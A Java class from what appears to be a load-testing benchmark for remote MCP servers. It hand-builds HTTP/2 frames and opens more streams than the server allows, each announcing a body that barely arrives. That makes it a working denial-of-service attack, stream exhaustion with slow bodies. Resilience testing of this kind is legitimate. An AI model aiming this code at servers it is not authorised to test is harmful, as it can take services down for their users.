package dev.remotemcp.benchmarks.load;

import java.io.BufferedInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/**
 * Opens streams on one connection of HTTP/2 (with prior knowledge, RFC 9113, section 3.3), each with an announced body
 * of which little arrives. It opens more than the server's settings allow, as an attacker would.
 */
final class Http2Streams implements Attack {
    private static final int DATA = 0;
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int GOAWAY = 7;
    private static final int ACK = 1;
    private static final int END_HEADERS = 4;
    private static final int SENT_OF_BODY = 60;

    private final boolean signedIn;

    /** @param signedIn whether the requests have a token */
    Http2Streams(boolean signedIn) {
        this.signedIn = signedIn;
    }

    @Override
    public void start(Crowd crowd, int count) {
        crowd.send(1, seat -> attack(seat, count));
    }

    private void attack(Crowd.Seat seat, int count) throws IOException {
        try (Socket socket = seat.socket(0)) {
            ByteArrayOutputStream opening = new ByteArrayOutputStream();
            opening.writeBytes(Requests.ascii("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
            opening.writeBytes(frame(SETTINGS, 0, 0, new byte[0]));
            socket.getOutputStream().write(opening.toByteArray());
            DataInputStream in = new DataInputStream(new BufferedInputStream(socket.getInputStream()));
            // The first frame of a server is its settings (RFC 9113, section 3.4).
            read(seat, socket, in);
            byte[] headers = headers(seat, signedIn ? seat.token() : "");
            for (int i = 0; i < count; i++) {
                ByteArrayOutputStream stream = new ByteArrayOutputStream();
                stream.writeBytes(frame(HEADERS, END_HEADERS, 2 * i + 1, headers));
                stream.writeBytes(frame(DATA, 0, 2 * i + 1, new byte[SENT_OF_BODY]));
                socket.getOutputStream().write(stream.toByteArray());
                seat.count("stream opened");
                while (in.available() > 0) {
                    read(seat, socket, in);
                }
            }
            seat.entered();
            while (true) {
                read(seat, socket, in);
            }
        }
    }

    private static void read(Crowd.Seat seat, Socket socket, DataInputStream in) throws IOException {
        int lengthAndType = in.readInt();
        int flags = in.readUnsignedByte();
        int stream = in.readInt();
        byte[] payload = new byte[lengthAndType >>> 8];
        in.readFully(payload);
        switch (lengthAndType & 0xff) {
            case HEADERS -> seat.count("answered");
            case RST_STREAM -> seat.count("RST_STREAM " + payload[3]);
            case GOAWAY -> seat.count("GOAWAY " + payload[7]);
            case SETTINGS -> acknowledge(socket, SETTINGS, flags, stream, new byte[0]);
            case PING -> acknowledge(socket, PING, flags, stream, payload);
            default -> {}
        }
    }

    private static void acknowledge(Socket socket, int type, int flags, int stream, byte[] payload) throws IOException {
        if ((flags & ACK) == 0) {
            socket.getOutputStream().write(frame(type, ACK, stream, payload));
        }
    }

    private static byte[] headers(Crowd.Seat seat, String token) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        field(block, ":method", "POST");
        field(block, ":scheme", "http");
        field(block, ":path", seat.target().requests().path());
        field(block, ":authority", seat.target().requests().host());
        field(block, "content-type", "application/json");
        field(block, "accept", "application/json, text/event-stream");
        field(block, "content-length", Integer.toString(AnnouncedBodies.ANNOUNCED));
        if (!token.isEmpty()) {
            field(block, "authorization", "Bearer " + token);
        }
        return block.toByteArray();
    }

    /** A literal field without indexing and with a new name, neither Huffman-coded (RFC 7541, section 6.2.2). */
    static void field(ByteArrayOutputStream block, String name, String value) {
        block.write(0);
        text(block, name);
        text(block, value);
    }

    private static void text(ByteArrayOutputStream block, String text) {
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        // An integer with a prefix of 7 bits (RFC 7541, section 5.1).
        int left = bytes.length;
        if (left < 127) {
            block.write(left);
        } else {
            block.write(127);
            for (left -= 127; left >= 128; left >>>= 7) {
                block.write(left & 0x7f | 0x80);
            }
            block.write(left);
        }
        block.writeBytes(bytes);
    }

    /** A frame (RFC 9113, section 4.1). */
    static byte[] frame(int type, int flags, int stream, byte[] payload) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream();
        frame.write(payload.length >>> 16);
        frame.write(payload.length >>> 8);
        frame.write(payload.length);
        frame.write(type);
        frame.write(flags);
        for (int shift = 24; shift >= 0; shift -= 8) {
            frame.write(stream >>> shift);
        }
        frame.writeBytes(payload);
        return frame.toByteArray();
    }
}
